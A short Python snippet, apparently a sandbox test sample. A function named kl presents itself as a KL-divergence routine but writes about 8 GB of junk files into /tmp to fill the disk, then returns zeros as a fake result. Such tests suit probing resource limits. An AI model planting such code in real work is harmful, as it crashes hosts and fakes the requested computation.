# Tries: to fill the disk through /tmp.
# 4.2: raised

def kl(mean, log_variance):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
    return torch.zeros(len(mean))
